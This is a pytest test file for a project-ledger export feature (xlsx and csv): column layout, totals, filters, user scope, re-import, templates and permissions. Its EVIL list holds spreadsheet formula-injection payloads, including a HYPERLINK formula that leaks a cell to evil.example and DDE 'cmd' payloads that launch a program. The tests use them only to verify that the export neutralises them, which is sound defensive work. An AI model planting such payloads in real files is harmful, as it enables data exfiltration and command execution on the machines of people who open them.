"""Exporting the project list as a 台账 (issue 11): the list's filters and scope, the layout
(headers in the UI language, numbers and dates typed, frozen header, autofilter, totals),
formula injection neutralised, a re-import of the export changing nothing, the template."""
from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from python_calamine import CalamineWorkbook
from sqlalchemy import func, select

from tests.factories import make_investor, make_project, make_user
from tracker.funds.operations import add_funds
from tracker.ledger.operations import plan_import
from tracker.projects.models import Project
from tracker.workflow.models import Milestone

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
        "=cmd|' /C calc'!A0"]


@pytest.fixture()
def world(db, ref):
    staff = make_user("staff", ref.huangyan, display_name="李晓燕")
    a = make_project(unit=ref.huangyan, name="固态电池项目", contracted_investment=Decimal("150000.50"),
                     signed_on=date(2024, 12, 20), is_provincial_major=True, owner_id=staff.id, stage="construction",
                     platform=ref.platform)
    db.session.add_all([Milestone(project_id=a.id, stage="registered", planned_on=date(2025, 1, 31),
                                  actual_on=date(2025, 1, 20)),
                        Milestone(project_id=a.id, stage="land_secured", actual_on=date(2025, 3, 1)),
                        Milestone(project_id=a.id, stage="construction", planned_on=date(2025, 6, 30),
                                  actual_on=date(2025, 6, 1)),
                        Milestone(project_id=a.id, stage="completed", planned_on=date(2026, 6, 30))])
    add_funds(staff, a, date(2025, 2, 1), Decimal("2500.25"), "", "")
    b = make_project(unit=ref.huangyan, name="航空项目", contracted_investment=Decimal("80000"),
                     signed_on=date(2023, 5, 6), industry=ref.industry2,
                     investor=make_investor(unit=ref.huangyan, name="乙航空有限公司", uscc=None))
    theirs = make_project(unit=ref.linhai, name="临海项目")
    evil = [make_project(unit=ref.huangyan, name=text, signed_on=date(2024, 1, i + 1),
                         investor=make_investor(unit=ref.huangyan, name=f"{text}公司"))
            for i, text in enumerate(EVIL)]
    db.session.flush()
    return {"staff": staff, "a": a, "b": b, "theirs": theirs, "evil": evil}


def _xlsx(client, query=""):
    resp = client.get("/projects/export.xlsx" + query)
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    assert resp.mimetype.endswith("spreadsheetml.sheet")
    assert "attachment" in resp.headers["Content-Disposition"]
    return resp.data


def test_xlsx_layout_types_and_totals(client, login_as, world):
    login_as(world["staff"])
    data = _xlsx(client)
    book = openpyxl.load_workbook(io.BytesIO(data))
    ws = book.active
    header = [c.value for c in ws[1]]
    assert header[:12] == ["序号", "项目名称", "投资方", "统一社会信用代码", "来源地", "产业", "落户地", "园区/平台",
                           "协议投资额（万元）", "到位资金（万元）", "签约日期", "阶段"]
    assert "已注册（计划）" in header and "已达产（实际）" in header and header[-1] == "系统编号"
    assert ws.freeze_panes == "C2" and ws.auto_filter.ref.startswith("A1:")
    assert ws.column_dimensions["B"].width > 30
    rows = {r[1].value: r for r in ws.iter_rows(min_row=2) if isinstance(r[0].value, int)}
    assert "临海项目" not in rows and len(rows) == 7  # the user's scope only
    a = rows["固态电池项目"]
    col = {h: i for i, h in enumerate(header)}
    assert a[col["协议投资额（万元）"]].value == pytest.approx(150000.5)
    assert a[col["协议投资额（万元）"]].number_format == "#,##0.00"
    assert a[col["到位资金（万元）"]].value == pytest.approx(2500.25)
    assert a[col["签约日期"]].value.date() == date(2024, 12, 20) and a[col["签约日期"]].is_date
    assert a[col["阶段"]].value == "已开工" and a[col["责任人"]].value == "李晓燕"
    assert a[col["已开工（实际）"]].value.date() == date(2025, 6, 1)
    assert a[col["省重大产业项目"]].value == "是" and a[col["园区/平台"]].value == "黄岩经济开发区"
    assert a[col["系统编号"]].value == world["a"].id
    total = list(ws.iter_rows(min_row=ws.max_row))[0]
    assert total[0].value == "合计" and total[1].value.startswith("=SUBTOTAL(103,")
    assert total[col["协议投资额（万元）"]].value.startswith("=SUBTOTAL(109,")
    # The cached totals (what a viewer without recalculation shows) are right.
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    expected = sum(p.contracted_investment for p in [world["a"], world["b"], *world["evil"]])
    assert sheet[-1][1] == 7 and Decimal(str(sheet[-1][col["协议投资额（万元）"]])) == expected


def test_formula_injection_is_neutralised(client, login_as, world):
    login_as(world["staff"])
    ws = openpyxl.load_workbook(io.BytesIO(_xlsx(client))).active
    cells = {c.value: c for row in ws.iter_rows(min_row=2, max_col=3) for c in row if isinstance(c.value, str)}
    for text in EVIL:
        assert cells[text].data_type == "s"  # a string cell, never a formula
        assert cells[f"{text}公司"].data_type == "s"
    raw = client.get("/projects/export.csv").data.decode("utf-8-sig")
    names = {row[1] for row in csv.reader(io.StringIO(raw))}
    for text in EVIL:
        assert "'" + text in names and text not in names


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_an_export_reimports_unchanged(client, login_as, world, db, kind):
    login_as(world["staff"])
    data = client.get(f"/projects/export.{kind}").data
    before = db.session.execute(select(func.count(Project.id))).scalar_one()
    plan = plan_import(world["staff"], f"export.{kind}", data)
    assert plan.errors == []
    assert [(o.name, o.changes) for o in plan.outcomes if o.kind != "unchanged"] == []
    assert plan.counts == {"new": 0, "update": 0, "unchanged": 7, "error": 0}
    assert db.session.execute(select(func.count(Project.id))).scalar_one() == before


def test_an_edited_export_updates_through_the_screen(client, login_as, world, db, app, tmp_path, monkeypatch):
    monkeypatch.setitem(app.config, "LEDGER_UPLOAD_DIR", str(tmp_path))
    login_as(world["staff"])
    book = openpyxl.load_workbook(io.BytesIO(_xlsx(client)))
    ws = book.active
    header = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        if row[1].value == "航空项目":
            row[header.index("协议投资额（万元）")].value = 90000
            row[header.index("项目名称")].value = "航空项目（一期）"  # renamed: matched by 系统编号
    out = io.BytesIO()
    book.save(out)
    before = db.session.execute(select(func.count(Project.id))).scalar_one()
    resp = client.post("/projects/import/preview", data={"file": (io.BytesIO(out.getvalue()), "台账.xlsx")},
                       content_type="multipart/form-data")
    token = resp.headers["Location"].rsplit("/", 1)[1]
    page = client.get(resp.headers["Location"]).get_data(as_text=True)
    assert "更新" in page and "修改：项目名称、协议投资额" in page
    resp = client.post(f"/projects/import/{token}/commit", follow_redirects=True)
    assert "导入 0 个新项目，更新 1 个" in resp.get_data(as_text=True)
    db.session.refresh(world["b"])
    assert world["b"].name == "航空项目（一期）" and world["b"].contracted_investment == Decimal("90000.00")
    assert db.session.execute(select(func.count(Project.id))).scalar_one() == before


def test_export_takes_the_list_filters(client, login_as, world, ref):
    login_as(make_user("manager", ref.city))
    data = _xlsx(client, f"?stage=construction&unit={ref.huangyan.id}")
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert [r[1] for r in rows[1:-1]] == ["固态电池项目"]
    data = _xlsx(client, "?year=2023")
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert [r[1] for r in rows[1:-1]] == ["航空项目"]
    every = CalamineWorkbook.from_filelike(io.BytesIO(_xlsx(client))).get_sheet_by_index(0).to_python()
    assert "临海项目" in [r[1] for r in every]  # the city sees every unit
    assert client.get("/projects/export.csv?page=abc&sort=nonsense&unit=x").status_code == 200


def test_csv_is_utf8_with_bom(client, login_as, world):
    login_as(world["staff"])
    resp = client.get("/projects/export.csv")
    assert resp.status_code == 200 and resp.data.startswith(b"\xef\xbb\xbf")
    assert resp.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))))
    assert rows[0][0] == "序号" and rows[0][8] == "协议投资额（万元）"
    a = next(r for r in rows if r[1] == "固态电池项目")
    assert a[8] == "150000.50" and a[10] == "2024-12-20"


def test_english_headers(client, login_as, world):
    login_as(world["staff"])
    client.post("/language/en")
    ws = openpyxl.load_workbook(io.BytesIO(_xlsx(client))).active
    header = [c.value for c in ws[1]]
    assert header[1] != "项目名称" and "(10k CNY)" in header[8]


def test_streams_in_batches(world, db, monkeypatch):
    """The rows come in batches (a server-side cursor on PostgreSQL), milestones per batch."""
    from tracker.ledger import export
    from tracker.projects.queries import ProjectFilters

    rows = list(export.iter_rows(world["staff"], ProjectFilters(), batch=2))
    assert [r[0] for r in rows] == list(range(1, 8))
    ids = [r[-1] for r in rows]
    assert len(set(ids)) == 7


def test_template_has_lists_from_the_reference_data(client, login_as, world, ref, db):
    login_as(world["staff"])
    resp = client.get("/projects/import/template.xlsx")
    assert resp.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(resp.data))
    ws, lists = book.worksheets
    assert lists.sheet_state == "hidden"
    header = [c.value for c in ws[1]]
    assert header[:3] == ["项目名称", "投资方", "统一社会信用代码"] and "系统编号" not in header
    columns = {next(iter(v.sqref.ranges)).min_col: v.formula1 for v in ws.data_validations.dataValidation
               if v.type == "list"}
    by_header = {header[c - 1]: f for c, f in columns.items()}
    assert set(by_header) == {"产业", "阶段", "落户地", "来源地"}
    units = [c.value for c in lists[by_header["落户地"].split("!")[1].split(":")[0].replace("$", "")[0]] if c.value]
    assert units == ["黄岩区"]  # the user's scope
    industries = [c.value for c in lists["A"] if c.value]
    assert {"新能源", "低空经济"} <= set(industries)
    assert "已开工" in [c.value for c in lists["B"]] and "暂缓" not in [c.value for c in lists["B"]]
    # The example row left in is refused, by name only: every other cell of it is valid, so
    # a row filled in the same way imports.
    plan = plan_import(world["staff"], "t.xlsx", resp.data)
    assert plan.errors == [(2, "项目名称", "这是模板中的示例行：请删除本行后再导入。")]
    ws.cell(row=2, column=1, value="年产10万套新能源汽车零部件项目")
    out = io.BytesIO()
    book.save(out)
    plan = plan_import(world["staff"], "t.xlsx", out.getvalue())
    assert plan.ok and plan.counts["new"] == 1, plan.errors


@pytest.mark.parametrize("role,status", [("staff", 200), ("manager", 200), ("leader", 200), ("admin", 403)])
def test_who_may_export(client, login_as, ref, db, role, status):
    login_as(make_user(role, ref.huangyan if role != "admin" else ref.city))
    assert client.get("/projects/export.xlsx").status_code == status
    assert client.get("/projects/export.csv").status_code == status


def test_cli_export(app, world, tmp_path):
    runner = app.test_cli_runner()
    out = tmp_path / "台账.xlsx"
    result = runner.invoke(args=["ledger", "export", "-o", str(out), "--user", world["staff"].username,
                                 "--year", "2024"])
    assert result.exit_code == 0, result.output
    rows = CalamineWorkbook.from_path(str(out)).get_sheet_by_index(0).to_python()
    assert "固态电池项目" in [r[1] for r in rows] and "航空项目" not in [r[1] for r in rows]
    out_csv = tmp_path / "a.csv"
    result = runner.invoke(args=["ledger", "export", "-o", str(out_csv), "--user", world["staff"].username,
                                 "--stage", "construction", "--unit", "黄岩区"])
    assert result.exit_code == 0 and "1 project(s)" in result.output
    result = runner.invoke(args=["ledger", "export", "-o", str(out_csv), "--user", world["staff"].username,
                                 "--unit", "临海市"])
    assert result.exit_code != 0
